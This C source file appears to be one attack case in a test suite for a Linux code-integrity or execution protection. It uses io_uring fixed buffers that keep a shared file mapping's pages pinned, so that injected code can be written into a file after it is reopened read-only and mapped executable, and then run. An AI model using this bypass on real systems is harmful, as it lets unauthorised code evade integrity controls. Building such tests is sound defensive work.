// SPDX-License-Identifier: GPL-2.0
/*
 * A writer that nobody sees: pages of a shared mapping, registered as a buffer
 * of io_uring, can be written to after the mapping and the file are closed.
 */
#include <linux/io_uring.h>
#include <stdint.h>
#include <string.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"
#include "machine.h"

#define MAP_SIZE 4096

struct ring {
	int fd;
	uint32_t *tail;
	uint32_t *array;
	struct io_uring_sqe *entries;
};

static void open_ring(struct ring *ring)
{
	struct io_uring_params p;
	char *queue;

	memset(&p, 0, sizeof(p));
	ring->fd = (int)syscall(SYS_io_uring_setup, 1, &p);
	if (ring->fd < 0)
		broken("io_uring_setup");
	queue = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(uint32_t),
		     PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
		     IORING_OFF_SQ_RING);
	ring->entries = mmap(NULL, p.sq_entries * sizeof(*ring->entries),
			     PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
			     IORING_OFF_SQES);
	if (queue == MAP_FAILED || ring->entries == MAP_FAILED)
		broken("mmap of the ring");
	ring->tail = (uint32_t *)(queue + p.sq_off.tail);
	ring->array = (uint32_t *)(queue + p.sq_off.array);
}

/* Let the kernel put what comes out of @from at @buffer, a registered one. */
static void read_fixed(const struct ring *ring, int from, const void *buffer,
		       uint32_t size)
{
	struct io_uring_sqe *entry = &ring->entries[0];

	memset(entry, 0, sizeof(*entry));
	entry->opcode = IORING_OP_READ_FIXED;
	entry->fd = from;
	entry->addr = (uintptr_t)buffer;
	entry->len = size;
	entry->off = (uint64_t)-1;
	ring->array[0] = 0;
	__atomic_store_n(ring->tail, *ring->tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS,
		    NULL, 0) != 1)
		broken("io_uring_enter");
}

/* pinned FILE */
static int run_pinned(char **argv)
{
	int fd = must_open(argv[0], O_RDWR), feed[2];
	void *buffer =
		mmap(NULL, MAP_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	struct iovec iov = { buffer, MAP_SIZE };
	struct ring ring;
	void *p;

	open_ring(&ring);
	if (buffer == MAP_FAILED || pipe(feed) ||
	    syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_BUFFERS,
		    &iov, 1))
		broken("IORING_REGISTER_BUFFERS");
	munmap(buffer, MAP_SIZE);
	close(fd);

	fd = must_open(argv[0], O_RDONLY);
	p = mmap(NULL, MAP_SIZE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (p == MAP_FAILED)
		return refused("mmap");
	if (write(feed[1], code_9, sizeof(code_9)) != sizeof(code_9))
		broken("pipe");
	read_fixed(&ring, feed[0], buffer, sizeof(code_9));
	return call(p);
}

const struct attack pin_attacks[] = {
	{ "pinned", run_pinned, 1 },
	{ NULL, NULL, 0 },
};
